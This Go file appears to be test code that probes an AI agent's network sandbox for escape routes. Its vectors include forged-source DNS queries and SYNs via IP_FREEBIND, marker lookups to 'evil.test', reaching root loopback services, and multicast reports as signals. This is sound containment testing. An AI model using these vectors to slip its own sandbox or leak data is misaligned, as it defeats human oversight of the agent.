package main

import (
	"net"
	"net/netip"
	"strconv"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// Vectors of issue 11 (spoofed sources, loopback leaving the pod, local
// services on loopback, multicast reports). The world records what
// arrives; the test owns the expectations.

// Ports the test's recorders use (see world_test.go).
const (
	spoofPort      = 9995 // UDP/TCP source the spoofed vectors bind
	sidecarPort    = 7070 // a root "sidecar" TCP listener on 127.0.0.1
	dockerDNSPort  = 5353 // a root UDP listener on 127.0.0.11, Docker's embedded DNS
	agentLocalPort = 7071 // the agent's own listener on 127.0.0.1
)

// freebindSocket returns a socket of typ bound to the non-local src:port
// with IP_FREEBIND / IPV6_FREEBIND, which need no privilege.
func freebindSocket(r *Result, typ int, src string, port int) (int, bool) {
	fam, sa := sockaddr(src, port)
	fd, err := unix.Socket(fam, typ|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		r.note("socket: %v", err)
		return -1, false
	}
	level, opt := unix.SOL_IP, unix.IP_FREEBIND
	if fam == unix.AF_INET6 {
		level, opt = unix.SOL_IPV6, unix.IPV6_FREEBIND
	}
	if err := unix.SetsockoptInt(fd, level, opt, 1); err != nil {
		r.note("freebind: %v", err)
		unix.Close(fd)
		return -1, false
	}
	_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1)
	if err := unix.Bind(fd, sa); err != nil {
		r.note("bind %s: %v", src, err)
		unix.Close(fd)
		return -1, false
	}
	r.note("bound to non-local %s", hostPort(src, port))
	return fd, true
}

// dnsWire is a query for name, packed.
func dnsWire(name string) []byte {
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), dns.TypeA)
	b, _ := m.Pack()
	return b
}

// spoofedDNS sends a DNS query from a forged source (an address of the
// world): an answer from the DNS proxy would reach the forged host, a
// reflection channel.
func spoofedDNS(src, dst string) vectorFunc {
	return func(r *Result) {
		fd, ok := freebindSocket(r, unix.SOCK_DGRAM, src, spoofPort)
		if !ok {
			return
		}
		defer unix.Close(fd)
		_, sa := sockaddr(dst, 53)
		for range 3 {
			if err := unix.Sendto(fd, dnsWire("esc-"+marker(r.Vector)+".evil.test"), 0, sa); err != nil {
				r.note("sendto: %v", err)
				return
			}
		}
		r.note("3 queries accepted by the local stack")
	}
}

// spoofedSYN connects from a forged source: the transparent proxy's
// SYN-ACK would go to the forged host.
func spoofedSYN(src, dst string) vectorFunc {
	return func(r *Result) {
		fd, ok := freebindSocket(r, unix.SOCK_STREAM, src, spoofPort)
		if !ok {
			return
		}
		defer unix.Close(fd)
		tv := unix.NsecToTimeval(int64(time.Second))
		_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &tv)
		_, sa := sockaddr(dst, 443)
		if err := unix.Connect(fd, sa); err != nil {
			r.note("connect: %v", err)
			return
		}
		r.escape("connected from a forged source")
	}
}

// boundUDP sends a datagram to a loopback address from a socket bound to
// the pod's interface (SO_BINDTODEVICE is unprivileged since Linux 5.7).
func boundUDP(ip string, port int, payload func(r *Result) []byte) vectorFunc {
	return func(r *Result) {
		datagram(r, unix.SOCK_DGRAM, unix.IPPROTO_UDP, ip, port, "eth0", payload(r))
	}
}

func markerPayload(r *Result) []byte { return []byte("esc-" + marker(r.Vector)) }

func markerQuery(r *Result) []byte { return dnsWire("esc-" + marker(r.Vector) + ".evil.test") }

// scopedLinkLocal connects to a link-local address scoped to eth0: the
// socket gets bound to the device, and the redirect to [::1]:15001 would
// follow it out of the pod.
func scopedLinkLocal(r *Result) {
	d := net.Dialer{Timeout: 2 * time.Second}
	c, err := d.Dial("tcp", "[fe80::1%eth0]:7000")
	if err != nil {
		r.note("connect: %v", err)
		return
	}
	defer c.Close()
	r.note("connected to %s", c.RemoteAddr())
	_, _ = c.Write([]byte("esc-" + marker(r.Vector)))
	resp, err := readAll(c)
	judge(r, resp, err)
}

// sidecar talks to a root listener on loopback, as a sidecar or a relay
// of the pod would run it.
func sidecar(r *Result) {
	send(r, "127.0.0.1", sidecarPort, []byte("esc-"+marker(r.Vector)))
}

// dockerDNS queries a root UDP resolver on 127.0.0.11 at a port read from
// /proc/net/udp, as Docker's embedded DNS listens.
func dockerDNS(r *Result) {
	datagram(r, unix.SOCK_DGRAM, unix.IPPROTO_UDP, "127.0.0.11", dockerDNSPort, "", markerQuery(r))
}

// agentLocal (a control) reaches a listener the agent itself opened on
// loopback: allowed, through the proxy, with an audit line.
func agentLocal(r *Result) {
	ln, err := net.Listen("tcp", "127.0.0.1:"+strconv.Itoa(agentLocalPort))
	if err != nil {
		r.Observed = "error"
		r.note("listen: %v", err)
		return
	}
	defer ln.Close()
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		_, _ = c.Write([]byte("hello from the agent's own server\n"))
	}()
	c, err := dialFlow(r, "127.0.0.1", agentLocalPort)
	if err != nil {
		r.Observed = "error"
		r.note("connect: %v", err)
		return
	}
	defer c.Close()
	_ = c.SetReadDeadline(time.Now().Add(ioWindow))
	b := make([]byte, 64)
	n, err := c.Read(b)
	if n == 0 {
		r.Observed = "error"
		r.note("no greeting: %v", err)
		return
	}
	r.Observed = allowed
	r.note("own server says %q", b[:n])
}

// ssmJoin joins a source-specific multicast group: the kernel would send
// an IGMPv3 report carrying the chosen group and source.
func ssmJoin(r *Result) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		r.note("socket: %v", err)
		return
	}
	defer unix.Close(fd)
	ifi, err := net.InterfaceByName("eth0")
	if err != nil {
		r.note("eth0: %v", err)
		return
	}
	// struct ip_mreq_source: multiaddr, interface, sourceaddr.
	var mreq [12]byte
	copy(mreq[0:], netip.MustParseAddr("232.1.2.3").AsSlice())
	copy(mreq[4:], netip.MustParseAddr(agentV4).AsSlice())
	copy(mreq[8:], netip.MustParseAddr(otherV4).AsSlice())
	if err := setsockoptBytes(fd, unix.SOL_IP, unix.IP_ADD_SOURCE_MEMBERSHIP, mreq[:]); err != nil {
		r.note("IP_ADD_SOURCE_MEMBERSHIP: %v", err)
	} else {
		r.note("joined 232.1.2.3 from %s on %s", otherV4, ifi.Name)
	}
	time.Sleep(300 * time.Millisecond) // the report leaves at once; give it time
}

// mldJoin joins an IPv6 group: the kernel would send an MLDv2 report.
func mldJoin(r *Result) {
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		r.note("socket: %v", err)
		return
	}
	defer unix.Close(fd)
	ifi, err := net.InterfaceByName("eth0")
	if err != nil {
		r.note("eth0: %v", err)
		return
	}
	mreq := unix.IPv6Mreq{Multiaddr: netip.MustParseAddr("ff05::e5c:1").As16(), Interface: uint32(ifi.Index)}
	if err := unix.SetsockoptIPv6Mreq(fd, unix.SOL_IPV6, unix.IPV6_JOIN_GROUP, &mreq); err != nil {
		r.note("IPV6_JOIN_GROUP: %v", err)
	} else {
		r.note("joined ff05::e5c:1 on %s", ifi.Name)
	}
	time.Sleep(300 * time.Millisecond)
}
